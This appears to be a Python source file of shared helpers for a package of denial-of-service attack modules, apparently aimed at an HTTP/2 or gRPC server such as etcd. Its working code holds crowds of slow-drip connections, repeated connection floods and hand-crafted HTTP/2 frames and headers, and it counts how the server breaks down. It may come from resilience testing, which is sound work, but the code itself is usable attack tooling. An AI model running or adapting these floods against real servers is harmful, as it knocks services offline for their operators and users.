"""What the attacks share: sockets that expect to be cut, crowds of them, and HTTP/2 frames by hand.
Standard library only. A module of this package with a NAME is an attack:

    def attack(host, port, stop, log): ...

It goes on until the threading.Event `stop` is set, whatever becomes of its connections, says what
it sees by log(text), and returns a dict of counts."""
import collections
import selectors
import socket
import struct
import time

CONNECT_S = 2
READ_BYTES = 65536
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 1, 1, 4


def dial(host, port, receive_bytes=0):
    """A connected socket, or None. With receive_bytes its kernel takes little that is not read."""
    try:
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        s = socket.socket(family, socket.SOCK_STREAM)
        if receive_bytes:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        s.settimeout(CONNECT_S)
        s.connect((host, port))
        return s
    except OSError:
        return None


def answer(s, wait_s=CONNECT_S):
    """All that comes until the other side ends it, or for so long."""
    data = b""
    end = time.monotonic() + wait_s
    try:
        while time.monotonic() < end:
            s.settimeout(max(0.01, end - time.monotonic()))
            piece = s.recv(READ_BYTES)
            if not piece:
                break
            data += piece
    except OSError:
        pass
    return data


def ask(host, port, data, wait_s=CONNECT_S):
    """Say it on a connection of its own; what comes back, and None when there is no connection."""
    s = dial(host, port)
    if s is None:
        return None
    with s:
        try:
            s.sendall(data)
        except OSError:
            pass
        return answer(s, wait_s)


def statuses(data):
    """The status of each answer of HTTP/1 in it."""
    parts = data.split(b"HTTP/1.")[1:]
    return [int(part[2:5]) for part in parts if part[2:5].isdigit()]


class Crowd:
    """Many connections that each say `first`, and then `drip(turn)` again and again; those that the
    other side ends are renewed. Nothing is read but where `reads`."""

    def __init__(self, host, port, size, first, drip=None, reads=True, receive_bytes=0):
        self.host, self.port, self.size, self.first = host, port, size, first
        self.drip, self.reads, self.receive_bytes = drip, reads, receive_bytes
        self.members = {}
        self.counts = collections.Counter()
        self.selector = selectors.DefaultSelector()

    def grow(self, until):
        while len(self.members) < self.size and time.monotonic() < until:
            s = dial(self.host, self.port, self.receive_bytes)
            if s is None:
                self.counts["not connected"] += 1
                return
            self.counts["connected"] += 1
            s.setblocking(False)
            self.members[s] = 0
            if self.reads:
                self.selector.register(s, selectors.EVENT_READ)
            if not self.say(s, self.first() if callable(self.first) else self.first):
                self.lose(s)

    def say(self, s, data):
        try:
            s.send(data)
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True

    def lose(self, s):
        self.counts["ended by the server"] += 1
        del self.members[s]
        if self.reads:
            self.selector.unregister(s)
        s.close()

    def look(self, wait_s):
        for key, _ in self.selector.select(wait_s) if self.reads else ():
            try:
                data = key.fileobj.recv(READ_BYTES)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            for status in statuses(data):
                self.counts[f"status {status}"] += 1
            if not data:
                self.lose(key.fileobj)

    def trickle(self):
        for s in list(self.members):
            self.members[s] += 1
            data = self.drip(self.members[s])
            if data and not self.say(s, data):
                self.lose(s)

    def run(self, stop, pause_s=1.0):
        while not stop.is_set():
            begun = time.monotonic()
            self.grow(begun + pause_s)
            if self.drip:
                self.trickle()
            self.look(0.05)
            stop.wait(max(0.05, begun + pause_s - time.monotonic()))
        for s in list(self.members):
            s.close()
        return dict(self.counts)


def total(counts):
    """The sum of dicts of counts."""
    out = collections.Counter()
    for c in counts:
        out.update(c)
    return dict(out)


def flood(host, port, stop, payload, first=b"", reads=True):
    """One connection after the other, each sent `payload` until the server has enough."""
    counts = collections.Counter()
    while not stop.is_set():
        s = dial(host, port)
        if s is None:
            counts["not connected"] += 1
            stop.wait(0.1)
            continue
        with s:
            counts["connected"] += 1
            pour(s, stop, first, payload, reads, counts)
    return dict(counts)


def pour(s, stop, first, payload, reads, counts):
    """Until the server ends it, or takes nothing for a while, which it may."""
    s.settimeout(1)
    got = b""
    try:
        s.sendall(first)
        while not stop.is_set():
            s.sendall(payload() if callable(payload) else payload)
            counts["sent"] += 1
            if reads:
                s.setblocking(False)
                try:
                    piece = s.recv(READ_BYTES)
                    got = (got + piece)[-READ_BYTES:]
                    if not piece:
                        break
                except BlockingIOError:
                    pass
                s.settimeout(1)
    except TimeoutError:
        counts["held back by the server"] += 1
        return
    except OSError:
        pass
    counts["ended by the server"] += 1
    for code in goaways(got):
        counts[f"goaway {code}"] += 1


# --- HTTP/2 -------------------------------------------------------------------------------------

def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def settings(*pairs):
    return frame(SETTINGS, payload=b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def literal(name, value):
    """A header, nothing of it in a table: names and values below 127 bytes."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def indexed_literal(name, value):
    """The same, kept in the table of the connection: 62 for the newest."""
    return b"\x40" + bytes([len(name)]) + name + bytes([len(value)]) + value


def grpc_head(path=b"/etcdserverpb.KV/Range"):
    """Headers of a call of gRPC."""
    return (b"\x83\x86" + literal(b":path", path) + literal(b":authority", b"localhost") +
            literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))


def headers(stream, block, flags=END_HEADERS):
    return frame(HEADERS, flags, stream, block)


OPENING = PREFACE + settings()


def goaways(data):
    """Error codes of the GOAWAYs in what a server sent, if it begins at a frame's begin."""
    at = 0
    found = []
    while at + 9 <= len(data):
        size = int.from_bytes(data[at:at + 3], "big")
        if data[at + 3] == GOAWAY and at + 17 <= len(data):
            found.append(int.from_bytes(data[at + 13:at + 17], "big"))
        at += 9 + size
    return found
